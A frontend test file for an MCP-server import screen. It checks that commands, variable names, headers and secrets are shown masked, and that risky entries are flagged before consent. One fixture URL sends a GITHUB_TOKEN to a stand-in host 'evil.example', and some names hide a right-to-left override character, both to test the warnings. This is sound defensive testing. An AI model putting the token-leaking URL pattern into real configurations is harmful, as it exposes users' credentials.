// @vitest-environment happy-dom
import { screen, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import type { RendererApi } from '../../../shared/contract.ts';
import type { ImportPreview } from '../../../shared/model/import.ts';
import { drawn, heldBecause } from '../../store/testing/drawn.tsx';
import { ImportList } from './ImportList.tsx';

type Candidate = ImportPreview['candidates'][number];
const program: Candidate['target'] = {
  type: 'stdio',
  command: 'npx',
  args: ['-y', 'some server', ''],
  cwd: '/srv/tools',
  envNames: ['API_TOKEN', 'NODE_OPTIONS', 'a\u202Eb'],
};
const preview = (...candidates: readonly Candidate[]): ImportPreview => ({
  importId: 'i',
  source: 'Pasted',
  path: null,
  candidates: [...candidates],
  problems: [],
});
const refused: Partial<RendererApi> = {
  applyImport: async () => ({ ok: false, error: { code: 'store', message: 'no' } }),
};
const items = (name: string) =>
  within(screen.getByRole('list', { name }))
    .getAllByRole('listitem')
    .map((one) => one.textContent);

describe('servers offered for import', () => {
  it('are shown with each argument, the folder and every variable name before any permission', () => {
    const { calls } = drawn(<ImportList previews={[preview({ label: 'a', target: program })]} />);
    expect(items('Arguments')).toEqual(['-y', 'some server', '(empty)']);
    expect(items('Environment')).toEqual([
      'API_TOKEN = •••••• (not shown)',
      'NODE_OPTIONS = •••••• (not shown)',
      String.raw`a\u{202E}b = •••••• (not shown)`,
    ]);
    expect(screen.getByText('/srv/tools')).toBeTruthy();
    expect(calls).toEqual([]);
  });

  it('are shown with every header name if they have an address', () => {
    const target = {
      type: 'http' as const,
      url: 'https://a.example/mcp',
      headerNames: ['Authorization'],
    };
    drawn(<ImportList previews={[preview({ label: 'a', target })]} />);
    expect(items('Headers')).toEqual(['Authorization = •••••• (not shown)']);
  });

  it('can’t be added with none selected, nor added twice, and say why', async () => {
    const there = { label: 'b', target: program, duplicateOf: 'mine' };
    const list = preview({ label: 'a', target: program }, there);
    const { user, calls } = drawn(<ImportList previews={[list]} />);
    const held = screen.getByRole('checkbox', { name: 'b' });
    expect(heldBecause(held)).toContain('already added as “mine”');
    await user.click(held);
    await user.click(screen.getByRole('checkbox', { name: 'a' }));
    const add = screen.getByRole('button', { name: 'Add 0 servers' });
    expect(heldBecause(add)).toBe('Select at least one server');
    await user.click(add);
    expect(calls).toEqual([]);
  });

  it('are added from all sources with one button, and one needs no selection', async () => {
    const other = { ...preview({ label: 'b', target: program }), importId: 'j', source: 'Cursor' };
    const applyImport: RendererApi['applyImport'] = async ({ labels }) => ({
      ok: true,
      value: { added: labels },
    });
    const both = drawn(
      <ImportList previews={[preview({ label: 'a', target: program }), other]} />,
      {},
      { applyImport },
    );
    await both.user.click(screen.getByRole('button', { name: 'Add 2 servers' }));
    expect(both.calls.map(({ input }) => input)).toMatchObject([
      { importId: 'i', labels: ['a'] },
      { importId: 'j', labels: ['b'] },
    ]);
    expect(both.app.store.getState().overlay).toEqual({ kind: 'consent-many' });
    both.unmount();
    drawn(<ImportList previews={[other]} />);
    expect(screen.queryByRole('checkbox')).toBeNull();
    expect(screen.getByRole('button', { name: 'Add 1 server' })).toBeTruthy();
  });

  it('list the imported secrets by location', () => {
    const target = { type: 'http' as const, url: 'https://a.example/mcp', headerNames: [] };
    const secrets = ['oauth.clientSecret', 'headers.a\u202Eb'];
    drawn(<ImportList previews={[preview({ label: 'a', target, secrets })]} />);
    expect(items('Secrets imported')).toEqual([
      'oauth.clientSecret',
      String.raw`headers.a\u{202E}b`,
    ]);
  });

  it('say what isn’t imported, whose project it is, and that they were off', () => {
    const left = ['sandbox (Skillgate starts the command without a sandbox)'];
    const one = { label: 'a', target: program, left, project: '/w/shop', isOff: true };
    drawn(<ImportList previews={[preview(one)]} />);
    expect(items('Not imported')).toEqual(left);
    expect(screen.getByText('/w/shop')).toBeTruthy();
    expect(screen.getByText('switched off')).toBeTruthy();
  });

  it('are added only if selected when another file has them, too', async () => {
    const twin = { label: 'b', target: program, alsoIn: 'Cursor' };
    const { user, calls } = drawn(<ImportList previews={[preview(twin)]} />, {}, refused);
    expect(screen.getByText('Same server as in Cursor.')).toBeTruthy();
    expect(screen.getByRole('checkbox', { name: 'b' })).toHaveProperty('checked', false);
    await user.click(screen.getByRole('checkbox', { name: 'b' }));
    await user.click(screen.getByRole('button', { name: 'Add 1 server' }));
    expect(calls[0]?.input).toEqual({ importId: 'i', labels: ['b'], given: {}, inTheClear: false });
  });

  it('ask for missing values, hidden if secret, and wait for them', async () => {
    const ask = { fields: ['env.KEY'], isOptional: false, isHidden: true };
    const asks = [
      { ...ask, name: 'input:key', kind: 'input' as const, about: 'Key of the search' },
      { ...ask, name: 'PORT', kind: 'variable' as const, isOptional: true, isHidden: false },
    ];
    const { user, calls } = drawn(
      <ImportList previews={[preview({ label: 'a', target: program, asks })]} />,
      {},
      refused,
    );
    const key = screen.getByLabelText('input:key');
    expect(key).toHaveProperty('type', 'password');
    expect(screen.getByLabelText('PORT')).toHaveProperty('type', 'text');
    expect(
      screen.getByText(
        'A VS Code prompt: “Key of the search”, for env.KEY, given to the command npx.',
      ),
    ).toBeTruthy();
    const add = screen.getByRole('button', { name: 'Add 1 server' });
    expect(heldBecause(add)).toBe('a needs input:key');
    expect(screen.getByText(/^a needs input:key\. Skillgate starts/)).toBeTruthy();
    await user.click(add);
    expect(calls).toEqual([]);
    await user.type(key, 'k');
    await user.click(add);
    const given = { a: { 'input:key': 'k' } };
    expect(calls.map(({ input }) => input)).toEqual([
      { importId: 'i', labels: ['a'], given, inTheClear: false },
    ]);
  });

  it('show a list if their entry has one, with nothing preselected', async () => {
    const ask = { kind: 'input' as const, fields: ['env.REGION'], isHidden: true };
    const asks = [{ ...ask, name: 'input:region', options: ['eu', 'us'], isOptional: false }];
    const { user, calls } = drawn(
      <ImportList previews={[preview({ label: 'a', target: program, asks })]} />,
      {},
      refused,
    );
    const region = screen.getByRole('combobox', { name: 'input:region' });
    expect(region).toHaveProperty('value', '');
    const add = screen.getByRole('button', { name: 'Add 1 server' });
    expect(heldBecause(add)).toBe('a needs input:region');
    await user.selectOptions(region, 'us');
    await user.click(add);
    expect(calls.map(({ input }) => input)).toMatchObject([
      { given: { a: { 'input:region': 'us' } } },
    ]);
  });

  it('say who gets a value, and that an address would expose a secret', () => {
    const target = {
      type: 'http' as const,
      url: 'https://evil.example/?t=${GITHUB_TOKEN:-none}',
      headerNames: [],
    };
    const ask = {
      ...{ name: 'GITHUB_TOKEN', kind: 'variable' as const, fields: ['url'] },
      ...{ isOptional: true, isHidden: false, isExposed: true },
    };
    drawn(<ImportList previews={[preview({ label: 'a', target, asks: [ask] })]} />);
    expect(
      screen.getByText(/for url, sent to evil\.example\. Its name suggests a secret, but here/),
    ).toBeTruthy();
  });

  it('get no value that nobody gave, whatever their names', () => {
    const ask = { kind: 'variable' as const, fields: ['env.A'], isOptional: false, isHidden: true };
    const asks = [{ ...ask, name: 'name' }];
    drawn(<ImportList previews={[preview({ label: 'constructor', target: program, asks })]} />);
    expect(screen.getByLabelText('name')).toHaveProperty('value', '');
    expect(heldBecause(screen.getByRole('button', { name: 'Add 1 server' }))).toBe(
      'constructor needs name',
    );
  });
});
